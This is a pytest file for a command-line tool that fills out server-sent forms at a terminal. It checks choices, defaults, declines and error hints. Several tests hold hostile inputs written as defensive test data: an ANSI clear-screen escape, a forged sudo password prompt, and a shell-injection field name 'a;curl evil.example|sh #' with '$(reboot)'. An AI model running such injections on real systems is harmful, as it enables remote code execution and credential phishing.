"""Test forms at a terminal: choices, defaults, optional fields and repeated questions."""

import io
import re
import sys
from contextlib import nullcontext
from pathlib import Path
from typing import Any

import pytest

from cli.command_process import RunCommand
from dovetail import ElicitationCancelled, ElicitationDeclined
from dovetail.cli.answers import AnswerProvider
from dovetail.errors import InputRequestError
from dovetail.types import ElicitRequestParams
from dovetail.wire.revisions import R_2025_03_26

FORM: dict[str, Any] = {
    "properties": {
        "row": {"type": "integer", "title": "Row\x1b[2J", "description": "From the front."},
        "place": {"type": "string", "enum": ["window", "aisle"], "default": "window"},
        "meals": {"type": "array", "items": {"enum": ["fish", "fruit"]}},
        "class": {"oneOf": [{"const": "a", "title": "First"}, {"const": "b", "title": "Second"}]},
        "quiet": {"type": "boolean", "default": True},
        "note": {"type": "string"},
    },
    "required": ["row", "class"],
}


class Terminal(io.StringIO):
    """A stream somebody sits at."""

    def isatty(self) -> bool:
        return True


def ask(monkeypatch: pytest.MonkeyPatch, typed: str, given: dict[str, str] | None = None) -> tuple[Any, str]:
    shown = Terminal()
    monkeypatch.setattr(sys, "stdin", Terminal(typed))
    monkeypatch.setattr(sys, "stderr", shown)
    monkeypatch.setenv("NO_COLOR", "1")
    question = ElicitRequestParams(message="Which seat?", requested_schema=FORM)
    return AnswerProvider(given or {}, nullcontext).fill_form(question), shown.getvalue()


def test_every_field_in_its_way(monkeypatch: pytest.MonkeyPatch) -> None:
    typed = "first\n3\nroof\naisle\nmeat\nfish,fruit\nb\nno\n\nmaybe\n\n"
    answer, shown = ask(monkeypatch, typed)
    assert answer == {"row": 3, "place": "aisle", "meals": ["fish", "fruit"], "class": "b", "quiet": False}
    assert "Row\\x1b[2J: " in shown
    assert re.search(r"\brow .*integer", shown)
    assert "1 window" in shown
    assert "2 b  Second" in shown
    assert "Place" not in shown
    assert "place [window]: " in shown
    assert "quiet [Y/n]: " in shown
    assert shown.count("Send this? [Y/n]") == 2


def test_defaults_and_answers_from_the_command_line(monkeypatch: pytest.MonkeyPatch) -> None:
    answer, shown = ask(monkeypatch, "\n\n\n\n\n", {"row": "7", "class": "a"})
    assert answer == {"row": 7, "class": "a"}
    assert not shown
    answer, shown = ask(monkeypatch, "\n\na\n\nhello\ny\n", {"row": "7"})
    assert answer == {"row": 7, "place": "window", "class": "a", "quiet": True, "note": "hello"}


def test_no_and_the_end_of_input(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ElicitationDeclined):
        ask(monkeypatch, "1\n\n\na\n\n\nn\n")
    with pytest.raises(ElicitationCancelled):
        ask(monkeypatch, "1\n")


def test_no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    questions = AnswerProvider({"row": "1"}, nullcontext)
    with pytest.raises(InputRequestError, match="Which seat") as caught:
        questions.fill_form(ElicitRequestParams(message="Which seat?", requested_schema=FORM))
    assert caught.value.hint is not None
    assert "--answer class=a|b" in caught.value.hint
    assert "row" not in caught.value.hint
    assert questions.unanswered == ["  │ Which seat?"]


@pytest.mark.parametrize("mode", ["form", "url"])
def test_text_of_the_server_never_looks_like_text_of_the_command(monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    shown = Terminal()
    monkeypatch.setattr(sys, "stdin", Terminal("secret\ny\n" if mode == "form" else "y\n"))
    monkeypatch.setattr(sys, "stderr", shown)
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "80")
    forged = "error: session expired\n[sudo] password for root: "
    answers, message = AnswerProvider({}, nullcontext), forged + " " * 75 + forged
    if mode == "form":
        form: dict[str, Any] = {
            "properties": {"p": {"type": "string", "title": "[sudo] password for root", "description": forged}},
            "required": ["p"],
        }
        assert answers.fill_form(ElicitRequestParams(message=message, requested_schema=form)) == {"p": "secret"}
    else:
        assert answers.confirm_url(ElicitRequestParams(mode="url", message=message, url="https://a.example/"))
    heading, *rows = shown.getvalue().splitlines()
    assert "server" in heading
    quoted = [row for row in rows if row.startswith("  │ ")]
    assert len(quoted) >= 5
    assert not any(word in row for row in rows if row not in quoted for word in ("sudo", "error"))


def test_without_a_terminal_the_error_lists_the_possible_answers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    form = {"properties": {"allow": {"enum": ["once", "no"]}, "note": {"type": "string"}}, "required": ["allow"]}
    question = ElicitRequestParams(message="Allow it?\n  because: \x1b[2J", requested_schema=form)
    with pytest.raises(InputRequestError) as told:
        AnswerProvider({}, nullcontext).fill_form(question)
    assert "  │ Allow it?\n  │   because: \\x1b[2J" in str(told.value)
    assert "--answer allow=once|no --answer note=..." in str(told.value)


def test_an_answer_without_a_question_is_reported(run: RunCommand, tmp_path: Path) -> None:
    file = _write_server(tmp_path)
    used = run("call", file, "book", "-a", "value=3", "-a", "rwo=5")
    assert (used.code, used.out) == (0, "3\n")
    assert "rwo" in used.err
    misspelled = run("call", file, "book", "-a", "valu=3")
    assert misspelled.code == 8
    assert "valu " in misspelled.err
    assert "'value'" in misspelled.err
    assert run("call", file, "book", "-a", "value=3").err == ""


def test_a_version_without_elicitation_is_named(run: RunCommand, tmp_path: Path) -> None:
    said = run("call", _write_server(tmp_path), "book", "-a", "value=3", "--protocol-version", R_2025_03_26)
    assert said.code == 5
    assert f"{R_2025_03_26} has no elicitation" in said.err
    assert "elicitation_handler" not in said.err


def _write_server(tmp_path: Path) -> Path:
    file = tmp_path / "booking.py"
    file.write_text(
        "from dovetail import Context, Server\n"
        "app = Server('booking')\n"
        "@app.tool\n"
        "async def book(ctx: Context) -> str:\n"
        "    return str(await ctx.elicit('Which row?', int))\n"
    )
    return file


def test_a_hint_with_names_of_a_server_is_safe_to_copy_into_a_shell(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    form = {"properties": {"a;curl evil.example|sh #": {"enum": ["once", "$(reboot)"]}}}
    with pytest.raises(InputRequestError) as told:
        AnswerProvider({}, nullcontext).fill_form(ElicitRequestParams(message="?", requested_schema=form))
    assert told.value.hint == "--answer 'a;curl evil.example|sh #'=once|'$(reboot)'"
